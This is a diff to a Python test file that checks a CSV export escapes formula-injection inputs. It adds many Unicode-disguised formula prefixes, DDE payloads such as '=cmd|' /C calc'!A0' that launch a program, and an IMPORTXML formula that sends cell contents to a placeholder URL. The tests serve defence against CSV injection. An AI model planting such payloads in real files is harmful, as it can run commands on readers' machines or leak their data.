@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import csv
+import io
 import json
 import tempfile
 from hashlib import sha256
@@ -14,7 +15,7 @@ from hypothesis import strategies as st
 
 import collectif
 from collectif.demo import record_evening
-from collectif.exchange.csv_cells import NUL_SHOWN, WITHHELD_CELL, harmless, original
+from collectif.exchange.csv_cells import NUL_SHOWN, WITHHELD_CELL, cell, harmless, original
 from collectif.exchange.csv_folder import export_csv
 from collectif.exchange.registry import Terms
 from collectif.record.envelope import Draft
@@ -211,7 +212,13 @@ class TestDictionary:
 HOSTILE = [
     *("=1+1", "+1", "-1+2", "@SUM(A1)", "\t=1", "\r=1", "\n=1", " =1", "＝1", "＋1", "－1", "＠x"),
     *("'=1", "'", "\u200b=1", "\u202e=1", WITHHELD_CELL, '=HYPERLINK("http://x")'),
+    *("\0=1", "\0", " \u00a0\u3000=1", "\ufeff=1", "\u034f=1", "\ufe0f@x", "\u3164=1", "\u2800+1"),
+    *("﹦1", "﹢1", "﹣1", "﹫x", "⁼1", "⁺1", "₌1", "\u2060\u180e\u200f-1", "\x0b\x0c=1"),
+    *("=cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0"),
+    '=IMPORTXML(CONCAT("http://x/?v=",CONCATENATE(A2:E2)),"//a/a10")',
 ]
+
+PLAIN = ["a=1", "1+1", "Été", "—1", "−1", "1", "a\n=1", "élan -1", "[withheld]!", "“=1”"]
 
 
 class TestFormulas:
@@ -219,7 +226,24 @@ class TestFormulas:
     def test_no_cell_begins_like_one(self, text):
         """OWASP, CSV injection: the first visible character decides."""
         assert harmless(text).startswith("'")
-        assert text == original(harmless(text))
+        assert text.replace("\0", NUL_SHOWN) == original(harmless(text))
+
+    @pytest.mark.parametrize("text", PLAIN)
+    def test_other_texts_stay_as_they_are(self, text):
+        """A sign inside a text, a dash and a minus sign (U+2212) begin no formula."""
+        assert text == harmless(text)
+
+    @given(st.text(" \t\r\n\u00a0\u200b\u2060\ufeff\u202e\u034f\ufe0f\u3164\u2800", max_size=6),
+           st.sampled_from("=+-@＝＋－＠﹦﹢﹣﹫⁼⁺"), st.text(max_size=9))  # fmt: skip
+    @settings(max_examples=300, deadline=None)
+    def test_nothing_that_does_not_show_hides_one(self, before, sign, after):
+        """However much of it there is; and a reader of CSV gets the text back."""
+        text = f"{before}{sign}{after}".replace("\0", NUL_SHOWN)
+        lines = io.StringIO(newline="")
+        csv.writer(lines).writerow([cell(text), cell(-3)])
+        ((written, number),) = csv.reader(io.StringIO(lines.getvalue(), newline=""))
+        assert (written[0], number) == ("'", "-3")
+        assert text == original(written)
 
     @given(st.text())
     @settings(max_examples=300)
